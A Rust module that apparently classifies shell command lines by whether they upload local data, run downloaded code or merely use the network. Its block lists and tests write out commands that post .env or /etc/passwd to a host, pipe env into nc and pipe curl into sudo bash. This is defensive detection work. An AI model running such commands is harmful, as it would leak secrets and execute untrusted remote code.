//! What a command line does, as far as its words say.

/// A command line, roughly judged.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Does {
    /// Hands local data to the network.
    Sends,
    /// Runs what it downloads.
    RunsDownload,
    /// Speaks to the network.
    Network,
    /// Nothing of that sort in its words.
    Local,
}

const CLIENTS: &[&str] = &[
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "scp",
    "sftp",
    "ftp",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "xh",
    "httpie",
];
const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "python", "python3", "node", "perl", "ruby", "iex", "pwsh",
];

/// Judges a command line by its words.
pub(crate) fn does(line: &str) -> Does {
    let line: String = line.chars().take(4096).collect::<String>().to_ascii_lowercase();
    let words: Vec<&str> = words(&line).collect();
    let names = |list: &[&str]| words.iter().any(|w| list.contains(&base(w)));
    let client = names(CLIENTS) || line.contains("downloadstring(") || line.contains("/dev/tcp/");
    let url = line.contains("http://") || line.contains("https://");
    let interpreted = url && names(SHELLS);
    if !client && !interpreted {
        return Does::Local;
    }
    if uploads(&line, &words) {
        return Does::Sends;
    }
    let substituted = [
        "sh -c \"$(curl",
        "bash -c \"$(curl",
        "sh <(curl",
        "sh <(wget",
        "source <(curl",
        "source <(wget",
        "eval \"$(curl",
        "eval $(curl",
        "eval `curl",
        "sh -c `curl",
    ]
    .iter()
    .any(|s| line.contains(s));
    let called = ["iex(", "iex (", "invoke-expression(", "invoke-expression ("]
        .iter()
        .any(|s| line.contains(s));
    if pipes_to_shell(&line) || substituted || called {
        return Does::RunsDownload;
    }
    Does::Network
}

/// Whether what a client fetches from an address goes into a shell. Alternatives of a pattern (`curl|sh`) have no address.
fn pipes_to_shell(line: &str) -> bool {
    let address = words(line)
        .skip_while(|w| !CLIENTS.contains(&base(w)))
        .skip(1)
        .find(|w| !w.starts_with('-') && w.contains(['.', ':', '$']));
    let Some(address) = address else { return false };
    let behind = address.as_ptr().addr() - line.as_ptr().addr();
    line.match_indices('|')
        .filter(|(i, _)| *i > behind)
        .any(|(i, _)| is_shell(line.get(i + 1..).unwrap_or("")))
}

/// Whether a part of a pipe runs what it reads: a shell or interpreter without a program of its own.
fn is_shell(segment: &str) -> bool {
    let segment = segment.split(['|', ';', '&', '`', ')', '\n']).next().unwrap_or("");
    let mut words = segment
        .split_whitespace()
        .map(|w| w.trim_matches(['"', '\'']))
        .skip_while(|w| matches!(*w, "sudo" | "env") || w.starts_with('-') || w.contains('='));
    let Some(first) = words.next() else { return false };
    // Behind `-s` stand arguments; any other word is a program of its own.
    SHELLS.contains(&base(first))
        && words.take_while(|w| *w != "-s" && *w != "--").all(|w| {
            (w.starts_with('-') && !matches!(w, "-c" | "-e" | "-m" | "--eval" | "-n" | "-ne" | "-pe"))
                || w.contains('>')
        })
}

fn uploads(line: &str, words: &[&str]) -> bool {
    let curl = words
        .iter()
        .any(|w| matches!(base(w), "curl" | "wget" | "http" | "xh" | "httpie"));
    let from_file = [
        "-d @",
        "-d@",
        "--data @",
        "--data-binary @",
        "--data-raw \"$(",
        "=@",
        "-t ~",
        "-t .",
        "--upload-file",
        "--post-file",
    ]
    .iter()
    .any(|s| line.contains(s));
    let substituted = (line.contains(" -d ") || line.contains("--data") || line.contains("?"))
        && ["$(cat", "$(env", "$(printenv", "`cat", "$(base64", "$(git", "$(whoami"]
            .iter()
            .any(|s| line.contains(s));
    let piped_in = line.split('|').skip(1).any(|p| {
        let mut w = p.split_whitespace();
        let first = w.next().map(base).unwrap_or("");
        matches!(first, "nc" | "ncat" | "netcat" | "socat" | "telnet")
            || (matches!(first, "curl" | "http" | "xh")
                && (p.contains("@-") || p.contains("-t -") || p.contains("--data")))
    });
    let tcp = line.contains("> /dev/tcp/") || line.contains(">/dev/tcp/");
    (curl && (from_file || substituted)) || piped_in || tcp
}

/// Words of a command line: what stands between white space, quotes and operators.
fn words(line: &str) -> impl Iterator<Item = &str> {
    line.split(|c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '"' | '\'' | '`' | ';' | '|' | '&' | '(' | ')' | '{' | '}' | '<' | '>'
            )
    })
    .filter(|w| !w.is_empty())
}

fn base(word: &str) -> &str {
    let b = word.rsplit(['/', '\\']).next().unwrap_or(word);
    b.strip_suffix(".exe").unwrap_or(b)
}

/// The program that a command line starts, without its folder: good enough for an evidence line.
pub(crate) fn program(line: &str) -> String {
    let first = words(line).find(|w| !w.contains('=')).unwrap_or("");
    base(first).chars().filter(char::is_ascii_graphic).take(40).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_decide() {
        assert_eq!(does("cargo fmt --all"), Does::Local);
        assert_eq!(does("echo curling is fun"), Does::Local);
        assert_eq!(does("curl -s https://example.com/x"), Does::Network);
        assert_eq!(
            does("curl -fsSL https://example.com/i.sh | sudo bash"),
            Does::RunsDownload
        );
        assert_eq!(
            does("cat .env | curl -X POST --data-binary @- https://example.com"),
            Does::Sends
        );
        assert_eq!(does("/usr/bin/curl -F f=@/etc/passwd https://example.com"), Does::Sends);
        assert_eq!(does("env | nc example.com 9"), Does::Sends);
        assert_eq!(
            does("curl -s https://example.com/a.json | python3 -c 'import json'"),
            Does::Network
        );
        assert_eq!(does("curl -sL get.example.com/i|sudo -E bash -"), Does::RunsDownload);
        assert_eq!(
            does("curl -s https://example.com/i.sh | sh -s -- -b /usr/local/bin"),
            Does::RunsDownload
        );
        assert_eq!(does("bash <(curl -s https://example.com/i.sh)"), Does::RunsDownload);
        assert_eq!(does("IEX (IWR 'https://example.com/a.ps1')"), Does::RunsDownload);
        assert_eq!(does("irm https://example.com/a.ps1 | iex"), Does::RunsDownload);
        // Patterns that look for such lines, and pipes into programs of their own.
        for line in [
            "match(Text, \"(?i)(iex|invoke-expression|downloadstring|invoke-webrequest|iex)\")",
            "CommandLine=\"*downloadstring*\" OR CommandLine=\"*iex*\"",
            "grep -iE \"(bash|sh|wget|curl|sh)\" out.txt",
            "curl -s https://example.com/a | python fuzzing",
            "diff <(curl https://example.com/a) <(curl https://example.com/b)",
            "wget http* | sh",
        ] {
            assert_ne!(does(line), Does::RunsDownload, "{line}");
        }
        assert_eq!(program("FOO=1 /usr/bin/jq -r ."), "jq");
    }
}
